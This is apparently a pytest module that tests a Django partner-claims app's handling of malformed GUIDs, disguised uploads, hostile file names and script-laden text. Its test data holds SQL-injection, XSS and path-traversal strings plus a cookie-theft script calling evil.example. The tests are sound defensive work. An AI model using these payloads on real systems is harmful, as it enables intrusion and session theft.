"""Hostile or broken input: it is refused with a message fit to show, or stored as plain text.

Never an unhandled exception, never a half-stored claim or an orphan file.
"""

from __future__ import annotations

import io
import re
import uuid
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from claims import workflow
from claims.models import Claim, ClaimEvent, Comment, PoeDocument, Product
from claims.workflow import TransitionRefused
from tests.factories import (
    PartnerFactory,
    claim_fields,
    claim_in,
    docx_upload,
    draft,
    jpeg_upload,
    manager_of,
    partner_user,
    pdf_upload,
    png_upload,
)

pytestmark = pytest.mark.django_db

S = Claim.Status
TEXT_FIELDS = sorted(
    name
    for name in Claim.PARTNER_FIELDS
    if Claim._meta.get_field(name).get_internal_type() in {"CharField", "TextField"}
)


def stored_files(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def create(by: Any, products: list[str] | None = None, **overrides: Any) -> Claim:
    return workflow.create_claim(
        by=by, fields=claim_fields(by.membership.partner, **overrides), products=products or ["d365-sales"]
    )


@pytest.fixture
def manager() -> Any:
    return partner_user(PartnerFactory())


# ---------------------------------------------------------------------------------------------
# GUIDs


MALFORMED_GUIDS = [
    "not-a-guid",
    "1234",
    "'; DROP TABLE claims_claim; --",
    "6f1c9d4e-2a8b-4c3d-9e7f-0a1b2c3d4e5",  # one digit short
    "6f1c9d4e-2a8b-4c3d-9e7f-0a1b2c3d4e5fz",
    "g" * 32,
    "6f1c9d4e-2a8b-4c3d-9e7f-" + "0" * 10_000,
    "6f1c9d4e-2a8b-4c3d-9e7f-0a1b2c3d4e5\x00",
    "\x00" * 36,
    " ",
    "<script>alert(1)</script>",
]


@pytest.mark.parametrize("value", MALFORMED_GUIDS, ids=range(len(MALFORMED_GUIDS)))
@pytest.mark.parametrize("field", ["customer_tenant_id", "subscription_id"])
def test_a_malformed_guid_is_a_field_error_and_nothing_is_stored(
    manager: Any, field: str, value: str
) -> None:
    with pytest.raises(ValidationError) as invalid:
        create(manager, **{field: value})

    assert invalid.value.message_dict[field]
    assert not Claim.objects.exists()
    assert not ClaimEvent.objects.exists()


@pytest.mark.parametrize("value", ["not-a-guid", "'; DROP TABLE claims_claim; --", "a\x00b"])
def test_a_malformed_guid_in_an_edit_changes_nothing(value: str) -> None:
    claim = draft()
    tenant = claim.customer_tenant_id

    with pytest.raises(ValidationError) as invalid:
        workflow.edit_claim(claim, by=manager_of(claim), changes={"customer_tenant_id": value})

    assert "customer_tenant_id" in invalid.value.message_dict
    assert Claim.objects.get(pk=claim.pk).customer_tenant_id == tenant


@pytest.mark.parametrize(
    "value",
    [
        "{6F1C9D4E-2A8B-4C3D-9E7F-0A1B2C3D4E5F}",
        "6f1c9d4e2a8b4c3d9e7f0a1b2c3d4e5f",
        "6F1C9D4E-2A8B-4C3D-9E7F-0A1B2C3D4E5F",
    ],
)
def test_the_usual_spellings_of_a_guid_are_accepted_and_stored_as_one(manager: Any, value: str) -> None:
    claim = create(manager, customer_tenant_id=value)

    assert Claim.objects.get(pk=claim.pk).customer_tenant_id == uuid.UUID(
        "6f1c9d4e-2a8b-4c3d-9e7f-0a1b2c3d4e5f"
    )


# ---------------------------------------------------------------------------------------------
# Products


def test_unknown_product_codes_are_named(manager: Any) -> None:
    with pytest.raises(ValidationError) as invalid:
        create(manager, products=["d365-sales", "d365-teleportation", "<b>x</b>"])

    message = " ".join(invalid.value.message_dict["products"])
    assert "d365-teleportation" in message and "<b>x</b>" in message
    assert "d365-sales" not in message
    assert not Claim.objects.exists()


def test_unknown_product_codes_in_an_edit_change_nothing() -> None:
    claim = claim_in(S.SUBMITTED)

    with pytest.raises(ValidationError) as invalid:
        workflow.edit_claim(claim, by=manager_of(claim), changes={"products": ["d365-sales", "nope"]})

    assert "nope" in " ".join(invalid.value.message_dict["products"])
    assert list(Claim.objects.get(pk=claim.pk).products.values_list("code", flat=True)) == ["d365-sales"]


@pytest.mark.parametrize(
    ("area", "products", "foreign"),
    [
        ("business_applications", ["d365-sales", "m365-teams"], "Microsoft Teams"),
        ("microsoft_365", ["m365-teams", "power-apps"], "Power Apps"),
    ],
)
def test_products_of_the_other_solution_area_are_refused(
    manager: Any, area: str, products: list[str], foreign: str
) -> None:
    with pytest.raises(ValidationError) as invalid:
        create(manager, products=products, solution_area=area)

    assert foreign in " ".join(invalid.value.message_dict["products"])
    assert not Claim.objects.exists()


def test_an_inactive_product_is_refused(manager: Any) -> None:
    Product.objects.filter(code="d365-guides").update(active=False)

    with pytest.raises(ValidationError) as invalid:
        create(manager, products=["d365-guides"])

    assert "Dynamics 365 Guides" in " ".join(invalid.value.message_dict["products"])
    assert not Claim.objects.exists()


def test_fields_that_are_not_the_partners_cannot_be_set_on_create(manager: Any) -> None:
    fields = claim_fields(manager.membership.partner, status=S.APPROVED)

    with pytest.raises(ValidationError):
        workflow.create_claim(by=manager, fields=fields, products=["d365-sales"])

    assert not Claim.objects.exists()


def test_submit_without_a_document_is_refused() -> None:
    claim = draft(document=False)

    with pytest.raises(TransitionRefused, match="proof-of-execution"):
        workflow.transition(claim, "submit", by=manager_of(claim))

    assert Claim.objects.get(pk=claim.pk).status == S.EDITING


# ---------------------------------------------------------------------------------------------
# Uploads


def _zip(**members: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for name, text in members.items():
            package.writestr(name, text)
    return buffer.getvalue()


BAD_FILES = {
    "html named pdf": ("statement.pdf", b"<!doctype html><html><body>PoE</body></html>", "application/pdf"),
    "script named pdf": ("statement.pdf", b"<script>alert(1)</script>", "application/pdf"),
    "zip that is not a docx": ("statement.docx", _zip(**{"readme.txt": "hi"}), None),
    "xlsx named docx": (
        "statement.docx",
        _zip(**{"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>"}),
        None,
    ),
    "truncated zip": ("statement.docx", b"PK\x03\x04" + b"\x00" * 40, None),
    "empty": ("statement.pdf", b"", "application/pdf"),
    "text named png": ("screenshot.png", b"just some text, not an image", "image/png"),
    "exe named jpg": ("photo.jpg", b"MZ\x90\x00" + b"\x00" * 60, "image/jpeg"),
    "pdf signature too late": ("statement.pdf", b" \n%PDF-1.7\n", "application/pdf"),
}


@pytest.mark.parametrize("case", list(BAD_FILES))
def test_a_file_whose_bytes_are_not_its_claimed_type_is_refused(case: str, poe_folder: Path) -> None:
    name, body, content_type = BAD_FILES[case]
    claim = draft(document=False)
    upload = SimpleUploadedFile(name, body, content_type=content_type)

    with pytest.raises(ValidationError) as invalid:
        workflow.add_document(claim, by=manager_of(claim), upload=upload)

    assert name in " ".join(invalid.value.messages)
    assert not PoeDocument.objects.exists()
    assert stored_files(poe_folder) == []
    assert not ClaimEvent.objects.filter(action=ClaimEvent.Action.UPLOAD).exists()


def test_an_oversized_file_is_refused_and_nothing_is_written(settings: Any, poe_folder: Path) -> None:
    settings.CPOR_POE_MAX_BYTES = 1024
    claim = draft(document=False)

    with pytest.raises(ValidationError):
        workflow.add_document(claim, by=manager_of(claim), upload=pdf_upload(body=b"x" * 2048))

    assert not PoeDocument.objects.exists()
    assert stored_files(poe_folder) == []

    workflow.add_document(claim, by=manager_of(claim), upload=pdf_upload(body=b"x" * 900))
    assert claim.documents.count() == 1


def test_a_claim_holds_at_most_the_configured_number_of_files(settings: Any, poe_folder: Path) -> None:
    settings.CPOR_POE_MAX_FILES = 3
    claim = draft()
    manager = manager_of(claim)
    workflow.add_document(claim, by=manager, upload=png_upload())
    workflow.add_document(claim, by=manager, upload=jpeg_upload())
    files_before = stored_files(poe_folder)

    with pytest.raises(ValidationError, match="at most 3"):
        workflow.add_document(claim, by=manager, upload=docx_upload())

    assert claim.documents.count() == 3
    assert stored_files(poe_folder) == files_before
    assert ClaimEvent.objects.filter(claim=claim, action=ClaimEvent.Action.UPLOAD).count() == 3


@pytest.mark.parametrize(
    ("upload", "kind", "suffix"),
    [
        (pdf_upload, PoeDocument.Kind.PDF, ".pdf"),
        (docx_upload, PoeDocument.Kind.DOCX, ".docx"),
        (png_upload, PoeDocument.Kind.PNG, ".png"),
        (jpeg_upload, PoeDocument.Kind.JPEG, ".jpg"),
    ],
)
def test_the_four_kinds_are_accepted_and_stored_under_a_generated_name(
    upload: Any, kind: str, suffix: str, poe_folder: Path
) -> None:
    claim = draft(document=False)
    original = f"Signed SOW Northwind{suffix}"

    document = workflow.add_document(claim, by=manager_of(claim), upload=upload(original))

    stored = PoeDocument.objects.get(pk=document.pk)
    assert stored.kind == kind
    assert stored.original_name == original
    assert "Northwind" not in stored.file.name and "SOW" not in stored.file.name
    assert stored.file.name.endswith(suffix)
    (on_disk,) = stored_files(poe_folder)
    assert on_disk == poe_folder / stored.file.name
    assert on_disk.stat().st_size == stored.size


def test_the_kind_is_read_from_the_bytes_not_the_name(poe_folder: Path) -> None:
    claim = draft(document=False)

    document = workflow.add_document(
        claim, by=manager_of(claim), upload=pdf_upload("looks-like-an-image.png")
    )

    stored = PoeDocument.objects.get(pk=document.pk)
    assert stored.kind == PoeDocument.Kind.PDF
    assert stored.content_type == "application/pdf"
    assert stored.file.name.endswith(".pdf")
    assert "looks-like-an-image" not in stored.file.name


@pytest.mark.parametrize(
    "name",
    [
        "../../../etc/passwd.pdf",
        "..\\..\\boot.ini.pdf",
        "evil\x00.pdf",
        "<script>alert(1)</script>.pdf",
        "a" * 400 + ".pdf",
    ],
    ids=["posix traversal", "windows traversal", "nul", "script", "long"],
)
def test_a_hostile_file_name_never_reaches_the_disk(name: str, poe_folder: Path) -> None:
    claim = draft(document=False)

    document = workflow.add_document(claim, by=manager_of(claim), upload=pdf_upload(name))

    stored = PoeDocument.objects.get(pk=document.pk)
    assert (
        "/" not in stored.original_name
        and "\\" not in stored.original_name
        and "\x00" not in stored.original_name
    )
    assert len(stored.original_name) <= 255
    (on_disk,) = stored_files(poe_folder)
    assert on_disk.resolve().is_relative_to(poe_folder.resolve())
    # Only a generated name reaches the disk (a random hex name could hold "aaaa" by chance, so the
    # test asks for the generated shape rather than the absence of the hostile name's pieces).
    assert re.fullmatch(r"[0-9a-f]{32}\.pdf", on_disk.name), on_disk.name
    assert re.fullmatch(r"[0-9a-f]{2}", on_disk.parent.name) and on_disk.parent.parent == poe_folder / "poe"


# ---------------------------------------------------------------------------------------------
# Text fields: hostile or huge input


@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_script_tags_are_stored_as_text_or_refused_cleanly(manager: Any, field: str) -> None:
    value = '<script>alert("x")</script><img src=x onerror=alert(1)>'

    try:
        claim = create(manager, **{field: value})
    except ValidationError as invalid:
        assert field in invalid.message_dict
        assert not Claim.objects.exists()
    else:
        assert getattr(Claim.objects.get(pk=claim.pk), field) == value


@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_ten_kilobyte_strings_are_stored_whole_or_refused_cleanly(manager: Any, field: str) -> None:
    value = "é" * 10_240

    try:
        claim = create(manager, **{field: value})
    except ValidationError as invalid:
        assert field in invalid.message_dict
        assert not Claim.objects.exists()
    else:
        assert getattr(Claim.objects.get(pk=claim.pk), field) == value


@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_a_nul_character_in_text_is_a_field_error(manager: Any, field: str) -> None:
    # PostgreSQL cannot store NUL in text; SQLite could, so the rule must not depend on the database.
    with pytest.raises(ValidationError) as invalid:
        create(manager, **{field: "Nort\x00hwind"})

    assert field in invalid.value.message_dict
    assert not Claim.objects.exists()


def test_a_nul_character_in_a_comment_is_a_field_error() -> None:
    claim = claim_in(S.SUBMITTED)

    with pytest.raises(ValidationError) as invalid:
        workflow.add_comment(claim, by=manager_of(claim), body="see\x00attached")

    assert "body" in invalid.value.message_dict
    assert not Comment.objects.exists()


def test_a_script_comment_is_stored_as_text() -> None:
    claim = claim_in(S.SUBMITTED)
    body = "<script>document.location='https://evil.example/'+document.cookie</script>"

    workflow.add_comment(claim, by=manager_of(claim), body=body)

    assert Comment.objects.get(claim=claim).body == body
